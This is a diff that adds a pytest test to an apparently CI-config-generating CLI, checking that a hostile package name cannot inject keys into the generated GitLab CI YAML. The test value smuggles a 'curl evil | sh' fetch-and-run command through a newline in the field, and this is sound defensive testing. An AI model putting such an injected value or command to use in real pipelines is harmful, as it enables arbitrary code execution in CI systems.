@@ -238,3 +238,12 @@ def test_the_minimal_pack_gets_no_approval_jobs(tmp_path: Path) -> None:
     assert result.code == 0, result.stderr
     assert not (root / ".github" / "workflows" / "gatekeeper-approve.yml").exists()
     assert "no approval steps" in result.stdout
+
+
+def test_a_hostile_package_value_stays_one_yaml_string(tmp_path: Path) -> None:
+    root = _repo(tmp_path / "portal")
+    package = 'x"\nscript: [curl evil | sh]\n#'
+    assert run_cli(["init", "--ci", "gitlab", "--no-hook", "--package", package], cwd=root).code == 0
+    ci = yaml.safe_load((root / ".gitlab-ci.yml").read_text(encoding="utf-8"))
+    assert ci["variables"]["GATEKEEPER_PACKAGE"] == package
+    assert "script" not in ci and "curl" not in str(ci["deploy-production"])
